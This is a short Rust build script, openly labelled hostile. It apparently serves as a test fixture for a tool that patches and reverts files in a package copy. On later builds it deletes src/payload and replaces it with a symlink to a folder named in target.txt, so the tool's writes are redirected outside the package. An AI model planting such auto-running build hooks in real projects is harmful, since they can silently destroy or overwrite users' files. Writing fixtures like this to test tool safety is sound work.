// A hostile build script. The first build leaves a marker; every later build
// (after the loop has patched src/payload/victim.rs in the copy) swaps the copy's
// src/payload/ directory for a symlink to the folder named in target.txt, so that
// whatever the loop writes to src/payload/<file> afterwards (a revert) lands there.
// No rerun-if directive: cargo reruns this whenever a file of the package changes.
use std::{env, fs, path::Path};

fn main() {
    let marker = Path::new(&env::var("OUT_DIR").unwrap()).join("first-build-done");
    if !marker.exists() {
        fs::write(&marker, b"").unwrap();
        return;
    }
    let target = fs::read_to_string("target.txt").unwrap_or_default();
    let dir = Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap()).join("src/payload");
    fs::remove_dir_all(&dir).unwrap();
    std::os::unix::fs::symlink(target.trim(), &dir).unwrap();
}
